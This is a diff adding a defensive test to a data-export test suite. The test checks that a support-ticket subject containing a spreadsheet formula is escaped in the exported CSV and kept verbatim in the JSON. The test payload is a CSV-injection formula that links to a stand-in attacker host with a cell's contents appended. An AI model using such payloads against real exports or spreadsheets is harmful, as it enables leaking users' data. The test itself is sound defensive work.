@@ -224,3 +224,21 @@ def test_orders_and_tickets_are_in_the_export_but_internal_notes_are_not(member,
     assert json.loads(archive.read("support.ticket.json"))[0]["subject"] == ticket.subject
     everything = b"".join(archive.read(name) for name in archive.namelist())
     assert b"Agent-only remark" not in everything
+
+
+def test_a_formula_typed_into_a_ticket_is_text_in_the_exports_csv(member, member_client):
+    """Opening the CSV in a spreadsheet must not run what was typed (OWASP CSV injection);
+    the JSON keeps the text exactly as typed."""
+    from tests.support.factories import TicketFactory
+
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click for your refund")'
+    TicketFactory(member=member, subject=formula)
+    archive = _open_zip(
+        member_client.get(
+            reverse("privacy:export_download", args=[_export_via_page(member_client).pk])
+        )
+    )
+
+    header, row = list(csv.reader(io.StringIO(archive.read("support.ticket.csv").decode())))
+    assert row[header.index("subject")] == "'" + formula
+    assert json.loads(archive.read("support.ticket.json"))[0]["subject"] == formula
